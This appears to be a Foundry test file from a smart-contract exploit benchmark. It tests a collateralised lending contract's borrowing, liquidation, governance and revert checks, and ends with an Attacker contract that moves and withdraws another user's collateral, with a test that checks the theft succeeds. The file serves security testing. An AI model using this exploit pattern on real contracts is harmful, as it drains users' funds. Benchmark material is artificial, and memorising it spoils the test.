// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./CollateralAccounts.sol";

// assay-canary-70256009-cb1d-4c93-9d0d-232d05b743da

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is IToken {
    mapping(address => uint256) public override balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor() {
        balanceOf[msg.sender] = 100_000e18;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        return move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (allowance[from][msg.sender] < amount) return false;
        allowance[from][msg.sender] -= amount;
        return move(from, to, amount);
    }

    function move(address from, address to, uint256 amount) private returns (bool) {
        if (balanceOf[from] < amount) return false;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Feed is IPriceSource {
    address private immutable keeper = msg.sender;
    uint256 private price;
    uint256 private at;

    function set(uint256 price_) external {
        require(msg.sender == keeper, "not the keeper");
        price = price_;
        at = block.timestamp;
    }

    function latestPrice() external view override returns (uint256, uint256) {
        return (price, at);
    }
}

// Computes for whoever calls it.
contract Arithmetic {
    using ScaledArithmetic for uint256;

    function plus(uint256 left, uint256 right) external pure returns (uint256) {
        return left.plus(right);
    }

    function times(uint256 left, uint256 right) external pure returns (uint256) {
        return left.times(right);
    }

    function unscaledDown(uint256 number, uint256 fraction) external pure returns (uint256) {
        return number.unscaledDown(fraction);
    }

    function unscaledUp(uint256 number, uint256 fraction) external pure returns (uint256) {
        return number.unscaledUp(fraction);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant GOV = address(0x60F);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_620_000_000;

    Token private coin;
    Token private asset;
    Feed private feed;
    CollateralAccounts private market;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Token();
        asset = new Token();
        feed = new Feed();
        feed.set(10e18);
        vm.prank(GOV);
        market = new CollateralAccounts(asset, coin, feed, 0.1e18);
        coin.transfer(GOV, 50_000e18);
        vm.startPrank(GOV);
        coin.approve(address(market), uint256(-1));
        market.supplyCoins(40_000e18);
        vm.stopPrank();
        asset.transfer(ANA, 2_000e18);
        coin.transfer(BEN, 10_000e18);
        vm.startPrank(ANA);
        asset.approve(address(market), uint256(-1));
        coin.approve(address(market), uint256(-1));
        market.openAccount();
        market.openAccount();
        market.addCollateral(1, 1_500e18);
        market.borrow(1, 1_800e18, ANA);
        vm.stopPrank();
        vm.prank(BEN);
        coin.approve(address(market), uint256(-1));
        mallory = new Attacker(market);
    }

    function collateralOf(uint256 number) private view returns (uint256 amount) {
        (, amount, ) = market.accounts(number);
    }

    function test_Regular() public {
        require(market.debtOf(1) == 1_800e18 && coin.balanceOf(ANA) == 1_800e18, "borrowed");
        vm.startPrank(ANA);
        market.moveCollateral(1, 2, 200e18);
        require(collateralOf(1) == 1_300e18 && collateralOf(2) == 200e18, "moved");
        market.setOperator(2, BEN, true);
        vm.stopPrank();
        vm.startPrank(BEN);
        market.borrow(2, 1_000e18, BEN);
        require(market.openAccount() == 3, "opened");
        market.closeAccount(3);
        vm.stopPrank();
        vm.warp(START + 365 days);
        require(market.debtOf(2) == 1_100e18 && market.totalDebt() == 3_080e18, "interest");
        feed.set(6e18);
        vm.startPrank(BEN);
        (uint256 repaid, uint256 received) = market.liquidate(2, 660e18);
        require(repaid == 660e18 && received == 118.8e18 && collateralOf(2) == 81.2e18, "liquidated");
        require(market.repay(2, 5_000e18) == 440e18 && market.debtOf(2) == 0, "repaid");
        market.takeCollateral(2, 81.2e18, BEN);
        require(asset.balanceOf(BEN) == 200e18, "taken");
        vm.stopPrank();
        vm.prank(ANA);
        require(market.repay(1, 990e18) == 990e18 && market.debtOf(1) == 990e18, "repaid in part");
        vm.startPrank(GOV);
        market.changeRate(0.2e18);
        market.stopBorrowing(true);
        market.stopBorrowing(false);
        market.recallCoins(1_000e18);
        market.proposeGovernor(BEN);
        vm.stopPrank();
        vm.prank(BEN);
        market.acceptGovernor();
        require(market.governor() == BEN && market.proposedGovernor() == address(0), "in office");
        vm.prank(ANA);
        market.closeAccount(2);
    }

    function test_RefusesSetups() public {
        vm.expectRevert("The coin cannot be its own collateral.");
        new CollateralAccounts(coin, coin, feed, 0);
        vm.expectRevert("The rate is above the maximum.");
        new CollateralAccounts(asset, coin, feed, 2e18 + 1);
    }

    function test_RefusesGovernors() public {
        bytes memory reason = "The caller is not the governor.";
        vm.startPrank(BEN);
        vm.expectRevert(reason);
        market.proposeGovernor(BEN);
        vm.expectRevert("The caller was not proposed.");
        market.acceptGovernor();
        vm.expectRevert(reason);
        market.changeRate(0);
        vm.expectRevert(reason);
        market.stopBorrowing(true);
        vm.expectRevert(reason);
        market.supplyCoins(1);
        vm.expectRevert(reason);
        market.recallCoins(1);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert("The caller does not own the account.");
        market.setOperator(1, BEN, true);
        vm.expectRevert("The caller does not own the account.");
        market.closeAccount(2);
        bytes memory reason = "The caller may not use the account.";
        vm.expectRevert(reason);
        market.takeCollateral(1, 1, BEN);
        vm.expectRevert(reason);
        market.moveCollateral(1, 2, 1);
        vm.expectRevert(reason);
        market.borrow(1, 1, BEN);
        vm.expectRevert("The account does not exist.");
        market.addCollateral(3, 0);
        vm.stopPrank();
    }

    function test_RefusesMissingAccounts() public {
        vm.startPrank(ANA);
        uint256 third = market.openAccount();
        market.setOperator(third, ANA, true);
        market.closeAccount(third);
        vm.expectRevert("The account does not exist.");
        market.moveCollateral(1, third, 1);
        vm.stopPrank();
    }

    function test_RefusesFormerOperators() public {
        vm.startPrank(ANA);
        market.setOperator(1, BEN, true);
        market.setOperator(1, BEN, false);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert("The caller may not use the account.");
        market.takeCollateral(1, 1, BEN);
    }

    function test_RefusesLimits() public {
        vm.startPrank(ANA);
        vm.expectRevert("The debt needs more collateral.");
        market.takeCollateral(1, 1_200e18 + 1, ANA);
        vm.expectRevert("The debt needs more collateral.");
        market.moveCollateral(1, 2, 1_200e18 + 1);
        vm.expectRevert("The debt needs more collateral.");
        market.borrow(1, 7_200e18 + 1, ANA);
        vm.expectRevert("The account has less collateral.");
        market.takeCollateral(2, 1, ANA);
        vm.expectRevert("The account is not empty.");
        market.closeAccount(1);
        vm.expectRevert("The account is within its limit.");
        market.liquidate(1, 1);
        vm.expectRevert("The token was not collected.");
        market.addCollateral(1, 500e18 + 1);
        vm.stopPrank();
        vm.startPrank(GOV);
        market.recallCoins(38_200e18);
        vm.expectRevert("The token was not paid.");
        market.recallCoins(1);
        market.stopBorrowing(true);
        vm.expectRevert("The rate is above the maximum.");
        market.changeRate(2e18 + 1);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("Borrowing is stopped.");
        market.borrow(1, 1, ANA);
    }

    function test_RefusesClosingWithDebt() public {
        vm.startPrank(ANA);
        market.addCollateral(2, 100e18);
        vm.expectRevert("The account is not empty.");
        market.closeAccount(2);
        market.borrow(2, 500e18, ANA);
        vm.stopPrank();
        feed.set(1e18);
        coin.transfer(BEN, 1);
        vm.prank(BEN);
        market.liquidate(2, 400e18);
        require(collateralOf(2) == 0 && market.debtOf(2) == 100e18, "nothing left");
        vm.prank(ANA);
        vm.expectRevert("The account is not empty.");
        market.closeAccount(2);
    }

    function test_RefusesOldPrices() public {
        vm.warp(START + 1 hours);
        vm.startPrank(ANA);
        market.takeCollateral(1, 1, ANA);
        vm.warp(START + 1 hours + 1);
        vm.expectRevert("There is no recent price.");
        market.takeCollateral(1, 1, ANA);
        market.addCollateral(2, 5);
        market.takeCollateral(2, 5, ANA);
        vm.stopPrank();
        feed.set(0);
        vm.prank(ANA);
        vm.expectRevert("There is no recent price.");
        market.takeCollateral(1, 1, ANA);
    }

    function test_RefusesNumbers() public {
        Arithmetic arithmetic = new Arithmetic();
        vm.expectRevert("The sum is too large.");
        arithmetic.plus(uint256(-1), 1);
        vm.expectRevert("The product is too large.");
        arithmetic.times(2**255, 2);
        vm.expectRevert("The fraction is zero.");
        arithmetic.unscaledDown(1, 0);
        vm.expectRevert("The fraction is zero.");
        arithmetic.unscaledUp(1, 0);
        require(arithmetic.plus(uint256(-1), 0) == uint256(-1) && arithmetic.times(0, 1) == 0, "in range");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(asset.balanceOf(address(mallory)) >= 900e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function collateral() public view returns (address) {
        return address(asset);
    }
}

contract Attacker {
    CollateralAccounts private market;

    constructor(CollateralAccounts m) {
        market = m;
    }

    function run() external {
        uint256 own = market.openAccount();
        market.moveCollateral(1, own, 1_200e18);
        market.takeCollateral(own, 1_200e18, address(this));
    }
}
